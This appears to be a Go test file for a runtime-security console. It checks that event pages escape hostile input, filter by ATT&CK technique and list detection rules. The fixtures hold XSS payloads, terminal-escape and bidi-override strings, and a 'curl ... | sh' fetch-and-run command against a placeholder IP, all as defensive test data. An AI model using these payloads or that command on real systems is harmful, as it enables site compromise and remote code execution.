package console

import (
	"bytes"
	"context"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"time"

	"mamori/internal/auth"
	"mamori/internal/model"
	"mamori/internal/service/policies"
	"mamori/internal/store"
)

// hostileArg is one argument of the 64 KiB argv: markup that would run
// script, quotes, a newline, a bidi override and a terminal escape.
const hostileArg = `"'><script>alert('argv')</script>` + "\n\u202e\x1b[2J"

// hostileRuntimeEvent is a runtime event whose every shown field is
// hostile, with a 64 KiB argv (16 arguments of 4 KiB, the model's limit
// per argument).
func hostileRuntimeEvent(now time.Time) store.EventRecord {
	args := make([]string, 16)
	for i := range args {
		a := fmt.Sprintf("arg%02d:", i)
		for len(a)+len(hostileArg) <= model.MaxEventTextLen {
			a += hostileArg
		}
		args[i] = a + strings.Repeat("x", model.MaxEventTextLen-len(a))
	}
	args[15] = args[15][:model.MaxEventTextLen-9] + "LAST-ARG!"
	return store.EventRecord{ReceivedAt: now, ReportedBy: "agent\n<b>", Event: model.Event{
		ID: "ev-hostile", Time: now.Add(-30 * time.Second), Source: model.SourceRuntime, Module: "sensor", Cluster: "prod",
		Node: `node"onmouseover="alert(1)`, Namespace: "payments", Pod: "pod\nforged-line",
		Container: &model.ContainerRef{ID: "c0ffee", Name: `<svg onload=alert('ctr')>`, Image: `evil.io/x:"><script>alert('img')</script>`},
		Rule:      model.RuleRef{ID: "terminal-shell-in-container", Title: "Terminal shell <i>in</i> a container"},
		Tactic:    "TA0002", Technique: "T1059.004", Severity: model.SeverityHigh, Action: model.ActionLog,
		Message: "shell started\nFAKE: all clear <script>alert('msg')</script>",
		Process: &model.Process{PID: 4242, PPID: 1, Exe: "/tmp/\x1b[31mevil\n<img src=x onerror=alert(1)>", Args: args,
			Cwd: "/\u202ecod", Ancestors: []string{"/usr/bin/<b>java</b>"}},
		Details: map[string]string{"<b>key</b>": "value\r\n<script>alert('detail')</script>"},
	}}
}

// TestEventsRuntimeFields: the Events page shows the runtime fields (node,
// container, image, process with its quoted arguments), each scope value a
// link filtering the page, and takes the runtime filters by the API's
// names; bad values are answered 400 with the error.
func TestEventsRuntimeFields(t *testing.T) {
	e := newEnv(t)
	c := e.login(auth.RoleViewer)
	code, body, _ := c.get("/events?source=runtime")
	if code != http.StatusOK {
		t.Fatalf("events: %d", code)
	}
	for _, want := range []string{
		`href="/events?node=node-1&amp;source=runtime"`, `container <a class="filter-link" href="/events?container=api&amp;source=runtime"`,
		"registry.local/payments/api:1.4.2", `/bin/bash: bash -c &#39;curl http://198.51.100.7/x | sh&#39;`,
		`<code class="cmdline">bash -c &#39;curl http://198.51.100.7/x | sh&#39;</code>`,
		`href="/events?source=runtime&amp;technique=T1059.004"`, `href="/events?rule=drift-exec&amp;source=runtime"`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("events page lacks %s", want)
		}
	}
	for _, tc := range []struct{ q, want, notWant string }{
		{"node=node-2", "Executable not in the image", "Shell started"},
		{"pod=api-7d9f", "Shell started", "Executable not in the image"},
		{"container=frontend", "Executable not in the image", "Shell started"},
		{"container=3f2a", "Shell started", "Executable not in the image"},
		{"image=registry.local/web/frontend:2024.06", "Executable not in the image", "Shell started"},
		{"rule=shell-in-container", "Shell started", "Executable not in the image"},
		{"technique=t1059.004", "Shell started", "Executable not in the image"},
		{"tactic=TA0005", "Executable not in the image", "Shell started"},
	} {
		code, body, _ := c.get("/events?" + tc.q)
		if code != http.StatusOK || !strings.Contains(body, tc.want) || strings.Contains(body, tc.notWant) {
			t.Errorf("/events?%s: %d, want %q and not %q", tc.q, code, tc.want, tc.notWant)
		}
	}
	for _, q := range []string{"technique=T59", "technique=%3Cscript%3E", "tactic=TA2", "pod=" + strings.Repeat("p", 5000)} {
		code, body, _ := c.get("/events?" + q)
		if code != http.StatusBadRequest || !strings.Contains(body, "flash-error") {
			t.Errorf("/events?%s: %d, want 400 with the error", q, code)
		}
	}
	if code, body, _ := c.get("/events?technique=T59"); !strings.Contains(body, "ATT&amp;CK technique ID") {
		t.Errorf("bad technique: %d, the error is not shown", code)
	}
}

// TestHostileEventRendering: newlines, terminal escapes, bidi overrides,
// markup in every runtime field and a 64 KiB argv render as inert text on
// the Events page (and the matrix), with the whole command line kept.
func TestHostileEventRendering(t *testing.T) {
	e := newEnv(t)
	now := time.Now().UTC()
	if _, err := e.st.InsertEvents(context.Background(), []store.EventRecord{hostileRuntimeEvent(now)}); err != nil {
		t.Fatal(err)
	}
	c := e.login(auth.RoleViewer)
	start := time.Now()
	code, body, _ := c.get("/events?q=FAKE")
	took := time.Since(start)
	if code != http.StatusOK || !strings.Contains(body, "Terminal shell &lt;i&gt;in&lt;/i&gt; a container") {
		t.Fatalf("hostile event: %d", code)
	}
	for _, bad := range []string{"<script>alert(", "<img src=x", "<svg onload", `"onmouseover="`, "<b>key", "<b>java", "<i>in</i>",
		"\x1b", "\u202e", "shell started\nFAKE", "pod\nforged"} {
		if strings.Contains(body, bad) {
			t.Errorf("the page carries %q raw", bad)
		}
	}
	for _, want := range []string{
		`shell started\x0aFAKE: all clear &lt;script&gt;alert(&#39;msg&#39;)&lt;/script&gt;`, // newline shown, markup escaped
		`/tmp/\x1b[31mevil\x0a&lt;img src=x onerror=alert(1)&gt;`,                            // executable
		`\u202e`, `pod\x0aforged-line`, `&lt;svg onload=alert(&#39;ctr&#39;)&gt;`,
		`node&#34;onmouseover=&#34;alert(1)`, `&lt;b&gt;key&lt;/b&gt;`, `value\x0d\x0a&lt;script&gt;`,
		"more bytes)", "LAST-ARG!", // the row is cut, the details keep the whole 64 KiB argv
	} {
		if !strings.Contains(body, want) {
			t.Errorf("the page lacks %s", want)
		}
	}
	inArgv := strings.Count(strings.Join(hostileRuntimeEvent(now).Event.Process.Args, " "), "<script>alert(")
	if n := strings.Count(body, "&lt;script&gt;alert("); n < inArgv || inArgv < 1500 {
		t.Errorf("%d escaped payloads shown, want at least the argv's %d (the whole 64 KiB argv)", n, inArgv)
	}
	t.Logf("events page with a 64 KiB argv: %d bytes in %v", len(body), took)

	// The same event in the matrix, and on the one-line filter links.
	code, body, _ = c.get("/attack?range=1h")
	if code != http.StatusOK || strings.Contains(body, "<script>alert(") || !strings.Contains(body, "T1059.004") {
		t.Errorf("matrix: %d", code)
	}
	// Invalid UTF-8 cannot be stored (model validation), but the page
	// escapes it all the same.
	rec := hostileRuntimeEvent(now)
	rec.Event.Message = "bad \xff\xfe utf-8 <script>"
	rec.Event.Process.Args = []string{"a\xffb"}
	con, err := New(e.st, e.authn)
	if err != nil {
		t.Fatal(err)
	}
	req := httptest.NewRequest(http.MethodGet, "/events", nil)
	rw := httptest.NewRecorder()
	p := con.newPage(req, "events", "Events")
	p.Data = eventsData{Events: []eventRow{newEventRow(rec, req.URL)}}
	con.render(rw, req, http.StatusOK, "events", p)
	out := rw.Body.Bytes()
	if rw.Code != http.StatusOK || bytes.Contains(out, []byte("\xff")) || bytes.Contains(out, []byte("<script>")) ||
		!bytes.Contains(out, []byte("bad \ufffd\ufffd utf-8 &lt;script&gt;")) || !bytes.Contains(out, []byte("a\ufffdb")) {
		t.Errorf("invalid UTF-8: %d %q", rw.Code, out[:min(len(out), 200)])
	}
}

// TestAttackPage: the matrix counts events by tactic and technique over
// the chosen range and scope, greys the techniques built-in rules cover
// that did not fire, and links each cell to the Events page listing
// exactly what it counts; bad values are 400 with the error.
func TestAttackPage(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	now := time.Now().UTC()
	var recs []store.EventRecord
	for i := range 5 {
		recs = append(recs, store.EventRecord{ReceivedAt: now, Event: model.Event{ID: fmt.Sprintf("m-%d", i), Time: now.Add(-time.Duration(i) * 2 * time.Hour),
			Source: model.SourceRuntime, Cluster: "prod", Namespace: "web", Node: "node-3", Rule: model.RuleRef{ID: "crypto-miner-binary"},
			Tactic: "TA0040", Technique: "T1496", Severity: model.SeverityCritical, Action: model.ActionTerminate, Message: "miner"}})
	}
	recs = append(recs, store.EventRecord{ReceivedAt: now, Event: model.Event{ID: "other", Time: now.Add(-time.Minute),
		Source: model.SourceRuntime, Rule: model.RuleRef{ID: "x"}, Tactic: "TA9999", Technique: "T0001\n<script>",
		Severity: model.SeverityLow, Action: model.ActionLog}})
	if _, err := e.st.InsertEvents(ctx, recs); err != nil {
		t.Fatal(err)
	}
	c := e.login(auth.RoleViewer)
	code, body, _ := c.get("/attack")
	if code != http.StatusOK {
		t.Fatalf("attack: %d", code)
	}
	for _, want := range []string{"Initial Access", "Execution", "Persistence", "Privilege Escalation", "Defense Evasion",
		"Credential Access", "Discovery", "Lateral Movement", "Command and Control", "Impact", "Other or no tactic",
		"Resource Hijacking", "Implant Internal Image", `T0001\x0a&lt;script&gt;`, "tactic TA9999"} {
		if !strings.Contains(body, want) {
			t.Errorf("matrix lacks %q", want)
		}
	}
	if strings.Index(body, "Initial Access") > strings.Index(body, "Execution") || strings.Index(body, "Execution") > strings.Index(body, "Impact") {
		t.Error("tactics out of ATT&CK order")
	}
	// 7 days by default: the shell (5 min), the drift (20 min) and the 5 miner events.
	cell := func(body, tech string) (heat, count, href string) {
		t.Helper()
		m := regexp.MustCompile(`<a class="attack-cell heat-(\d)[^"]*" href="([^"]*technique=` + regexp.QuoteMeta(tech) + `[^"]*)"[^>]*>\s*<span class="attack-id">[^<]*</span>\s*<span class="attack-count">(\d+)</span>`).FindStringSubmatch(body)
		if m == nil {
			return "", "", ""
		}
		return m[1], m[3], html.UnescapeString(m[2])
	}
	heat, n, href := cell(body, "T1496")
	if n != "5" || heat != "4" || !strings.Contains(href, "tactic=TA0040") || !strings.Contains(href, "since=") || !strings.Contains(href, "until=") {
		t.Fatalf("T1496 cell: heat %q count %q href %q", heat, n, href)
	}
	// The cell's link lists exactly what it counts.
	code, list, _ := c.get(href)
	if code != http.StatusOK || strings.Count(list, "<td class=\"event-msg\">") != 5 {
		t.Errorf("%s: %d, %d events listed, want 5", href, code, strings.Count(list, "<td class=\"event-msg\">"))
	}
	// A technique a built-in rule covers with no event is grey.
	if heat, n, _ := cell(body, "T1525"); heat != "0" || n != "0" {
		t.Errorf("T1525 cell: heat %q count %q, want a grey 0", heat, n)
	}
	// A hostile technique gets no link.
	if strings.Contains(body, "technique=T0001") {
		t.Error("a link to a technique the filters refuse")
	}
	// Range and scope.
	if _, n, _ := func() (string, string, string) { _, b, _ := c.get("/attack?range=1h"); return cell(b, "T1496") }(); n != "1" {
		t.Errorf("1h: T1496 counted %q, want 1", n)
	}
	if _, b, _ := c.get("/attack?range=30d&cluster=prod&namespace=web&node=node-3"); !strings.Contains(b, `<strong>5</strong> events`) {
		t.Error("scoped: want 5 events")
	}
	if _, b, _ := c.get("/attack?cluster=nope"); !strings.Contains(b, `<strong>0</strong> events`) {
		t.Error("cluster nope: want 0 events")
	}
	since := now.Add(-3 * time.Hour).Format(time.RFC3339)
	if code, b, _ := c.get("/attack?since=" + since); code != http.StatusOK || !strings.Contains(b, "Custom from") {
		t.Errorf("custom since: %d", code)
	}
	for _, q := range []string{"range=2w", "technique=T59", "tactic=nope", "since=yesterday", "cursor=abc", "limit=3",
		"range=7d&since=" + since, "severity=severe"} {
		code, body, _ := c.get("/attack?" + q)
		if code != http.StatusBadRequest || !strings.Contains(body, "flash-error") {
			t.Errorf("/attack?%s: %d, want 400 with the error", q, code)
		}
	}
	if code, _, _ := e.anon().get("/attack"); code != http.StatusSeeOther {
		t.Errorf("anonymous: %d, want a redirect to the login", code)
	}
}

const consoleRuntimePolicy = `apiVersion: mamori.dev/v1
kind: Policy
name: runtime
runtime:
  - ruleset: default
    rules: {crypto-miner-binary: terminate, terminal-shell-in-container: isolate}
  - ruleset: pci
    match: {namespaces: [payments]}
    action: terminate
  - ruleset: default
    rules: {no-such-rule: isolate}
`

// TestRulesetsPage: the rule catalogue (ID, title, severity, tactic,
// technique, kinds, condition, default action) and each policy's rulesets
// with the action of every rule, read-only with links to the policy.
func TestRulesetsPage(t *testing.T) {
	e := newEnv(t)
	c := e.login(auth.RoleViewer)
	code, body, _ := c.get("/rulesets")
	if code != http.StatusOK {
		t.Fatalf("rulesets: %d", code)
	}
	for _, want := range []string{"terminal-shell-in-container", "Terminal shell in a container", "T1059.004", "Command and Scripting Interpreter: Unix Shell",
		"Execution", "TA0002", "proc.tty", `<span class="action action-log">log</span>`, "No policy has a runtime section yet",
		"module_load", "builtin/execution.yaml:", `href="/events?rule=terminal-shell-in-container"`,
		`<div class="panel" id="host-groups">`, "hosts no other group takes", "none selected: the default ruleset"} {
		if !strings.Contains(body, want) {
			t.Errorf("rulesets page lacks %q", want)
		}
	}
	if n := strings.Count(body, `<tr id="rule-`); n < 40 {
		t.Errorf("%d rules listed", n)
	}
	if strings.Contains(body, `method="post"`) && strings.Contains(body, "rulesets") && strings.Contains(body, "<button class=\"btn btn-danger\"") {
		t.Error("the rulesets page has write controls")
	}
	pol := policies.New(e.st, nil, nil)
	if _, err := pol.Apply(context.Background(), "runtime.yaml", []byte(consoleRuntimePolicy)); err != nil {
		t.Fatal(err)
	}
	_, body, _ = c.get("/rulesets")
	for _, want := range []string{`<a href="/policies/runtime">runtime</a>`, "namespaces payments", "agent's own rule files",
		`rule &#34;no-such-rule&#34; is not a built-in rule`, "An agent refuses this policy"} {
		if !strings.Contains(body, want) {
			t.Errorf("rulesets page with a policy lacks %q", want)
		}
	}
	row := func(id string) string {
		i := strings.Index(body, `<tr id="rule-`+id+`">`)
		if i < 0 {
			t.Fatalf("no row %s", id)
		}
		j := strings.Index(body[i:], "</tr>")
		return body[i : i+j]
	}
	cells := func(r string) []string {
		var out []string
		for _, m := range regexp.MustCompile(`<td class="ruleset-cell">(?:<span class="action action-\w+">(\w+)</span>|<span class="faint"[^>]*>([^<]+)</span>)</td>`).FindAllStringSubmatch(r, -1) {
			out = append(out, m[1]+m[2])
		}
		return out
	}
	if got := strings.Join(cells(row("crypto-miner-binary")), " "); got != "terminate ? log" {
		t.Errorf("crypto-miner-binary: %q, want terminate ? log", got)
	}
	if got := strings.Join(cells(row("terminal-shell-in-container")), " "); got != "isolate ? log" {
		t.Errorf("terminal-shell-in-container: %q", got)
	}
	code, body, _ = c.get("/rulesets?technique=t1496")
	if code != http.StatusOK || strings.Count(body, `<tr id="rule-`) != 3 || !strings.Contains(body, "crypto-miner-pool-port") {
		t.Errorf("technique filter: %d, %d rows", code, strings.Count(body, `<tr id="rule-`))
	}
	if _, body, _ = c.get("/rulesets?q=shadow"); !strings.Contains(body, "shadow-file-read") || strings.Contains(body, `id="rule-crypto-miner-binary"`) {
		t.Error("search filter")
	}
	for _, q := range []string{"tactic=nope", "technique=%3Cscript%3E"} {
		if code, body, _ := c.get("/rulesets?" + q); code != http.StatusBadRequest || !strings.Contains(body, "flash-error") {
			t.Errorf("/rulesets?%s: %d, want 400", q, code)
		}
	}
	if code, _, _ := e.anon().get("/rulesets"); code != http.StatusSeeOther {
		t.Errorf("anonymous: %d", code)
	}
}
